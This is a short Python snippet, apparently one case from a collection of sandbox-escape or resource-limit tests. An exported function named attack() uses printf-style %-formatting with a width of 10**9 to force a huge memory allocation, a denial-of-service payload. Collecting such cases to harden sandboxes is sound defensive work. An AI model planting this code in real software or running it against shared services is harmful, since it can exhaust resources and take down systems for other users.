# escape: %-formatting with a huge * width | source: printf-style DoS
@export
def attack():
    return '%*d' % (10 ** 9, 1)
